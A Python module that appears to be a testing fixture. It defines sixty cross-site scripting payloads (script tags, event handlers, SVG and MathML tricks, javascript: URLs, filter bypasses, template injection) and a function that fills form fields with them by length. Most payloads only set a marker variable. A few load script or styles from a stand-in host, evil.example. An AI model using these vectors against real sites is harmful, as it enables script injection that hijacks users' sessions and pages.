"""Sixty texts that would run as a script somewhere, were they not taken for text. Each that runs says so."""

import itertools
from collections.abc import Callable

RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</a><script>{RUN}</script>",
    f"<script>{RUN}//",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<<script>script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f'" onerror="{RUN}',
    f'" onfocus="{RUN}" autofocus="',
    f"' onfocus='{RUN}' autofocus='",
    f'" onmouseover="{RUN}" x="',
    f" onfocus={RUN} autofocus tabindex=0 ",
    f"`><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext></form><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href='javascript:{RUN}'>a</a>",
    f"<a href='java\tscript:{RUN}'>a</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<form action='javascript:{RUN}'><button autofocus>a</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
)


def payloads_in_turn() -> Callable[[str, int], str]:
    """Each field gets the next payload that has room in it, after one that makes an element wherever it is taken for
    markup, if there is room for both; a field without end gets all of them.
    """
    turn, plain = itertools.cycle(PAYLOADS), f"<img src=x onerror={RUN}>"

    def text(name: str, room: int) -> str:
        if room >= 10_000:
            return "\n".join(PAYLOADS)
        one = next(one for one in itertools.islice(turn, len(PAYLOADS)) if len(one) <= room)
        return plain + one if len(plain) + len(one) <= room else one

    return text
